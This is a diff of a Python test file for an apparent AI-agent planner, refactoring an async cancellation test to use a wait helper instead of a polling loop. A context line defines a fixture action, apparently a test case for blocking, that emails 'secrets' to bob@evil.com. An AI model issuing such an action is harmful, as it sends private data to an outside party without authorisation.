@@ -11,6 +11,7 @@ from kestrel.agent.context import StaticContext
 from kestrel.agent.llm import ScriptedModel
 from kestrel.agent.planner import Budgets, LLMPlanner
 from kestrel.agent.rules import RulePlanner, parse_rules
+from tests.fixtures.wait import until
 
 FAN_ON = '{"action": "gpio.write", "args": {"actuator": "fan", "value": 1}}'
 MAIL_EVIL = '{"action": "send_email", "args": {"to": "bob@evil.com", "subject": "secrets"}}'
@@ -247,9 +248,12 @@ def test_run_async_and_cancellation(env):
         )
         before = len(env.records("planner.step"))
         task = asyncio.create_task(run_async(slow, "keep the fan on"))
-        while len(env.records("planner.step")) == before:  # cancelled mid-run: after its first step
-            assert not task.done()
-            await asyncio.sleep(0.01)
+
+        def first_step() -> bool:  # cancelled mid-run: after its first step
+            assert not task.done(), "the run ended before its first step"
+            return len(env.records("planner.step")) > before
+
+        await until(first_step, what="the slow run's first step")
         task.cancel()
         try:
             await task
